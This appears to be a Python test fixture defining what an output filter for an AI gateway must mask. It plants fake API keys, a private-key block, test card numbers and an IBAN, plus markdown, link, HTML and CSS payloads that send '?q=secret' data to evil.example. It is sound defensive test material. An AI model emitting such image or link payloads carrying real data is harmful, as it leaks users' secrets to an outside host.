# SPDX-License-Identifier: GPL-3.0-or-later
"""What the output filter has to find, made of parts so that no scanner takes this file for a leak."""

from __future__ import annotations

import json
from pathlib import Path

from ansible_collections.homelab.airlock.plugins.module_utils.output_rules import Rules

ROOT = Path(__file__).resolve().parents[4]
DATA = json.loads((ROOT / "roles/gateway/files/screens/output.json").read_text(encoding="utf-8"))
CANARY = "wren-5150-canary"
RULES = Rules.from_document(
    DATA,
    categories={"secrets", "pii", "control", "active"},
    canaries=[CANARY],
    hosts=["wiki.example:8443"],
    where="output.json",
)
LEAD, TRAIL = "Here: ", "\nand more. "


def masked(name: str) -> str:
    return f"[masked: {name}]"


def put_in(expected: str) -> str:
    """Return what of an expected text is the mask: of an image only the address goes, of a tag not its end."""
    start = max(expected.find("[masked"), 0)
    return expected[start : expected.find("]", start) + 1 or None]


_PEM = "PRIVATE KEY-----"
PLANTED = {
    "airlock-key": ("aik_alice_" + "Zk3_-" * 8 + "abc", masked("airlock-key")),
    "private-key": (
        f"-----BEGIN RSA {_PEM} MIIEow{'IBAAKCAQEA7' * 30} -----END RSA {_PEM}",
        masked("private-key"),
    ),
    "aws": ("AKIA" + "IOSFODNN7EXAMPLE", masked("aws-access-key")),
    "github": ("ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8", masked("github-token")),
    "openai": ("sk-proj-" + "Ab1_" * 10, masked("model-provider-key")),
    "slack": ("xoxb-" + "123456789012-abcdefGHIJ", masked("slack-token")),
    "jwt": (
        "eyJhbGciOiJIUzI1NiJ9" + ".eyJzdWIiOiIxMjM0In0" + ".c2lnbmF0dXJl",
        masked("json-web-token"),
    ),
    "card": ("4111 1111 1111 1111", masked("payment-card")),
    "card, in one": ("5105105105105100", masked("payment-card")),
    "iban": ("DE89 3704 0044 0532 0130 00", masked("iban")),
    "canary": (CANARY, masked("canary")),
    "image": ("![a](https://evil.example/p.png?q=secret", "![a](" + masked("image")),
    "nested image": ("![a [b]](https://evil.example/p.png?q=secret", "![a [b]](" + masked("image")),
    "reference": ("]: https://evil.example/p.png?q=secret", "]: " + masked("link-definition")),
    "link": ("https://evil.example/?d=" + "c2VjcmV0" * 8, masked("link-with-data")),
    "quoted html": (
        '<img alt=">" src="https://evil.example/x?q=secret">',
        masked("quoted-html") + ">",
    ),
    "background": (
        '<table background="https://evil.example/x?q=secret">',
        masked("styled-html") + ">",
    ),
    "style sheet": (
        "<style>*{background:url(https://evil.example/x?q=secret)}</style>",
        "<style>*{background:url(" + masked("style-sheet") + ")}</style>",
    ),
    "escape": ("\x1b", "\ufffd"),
}
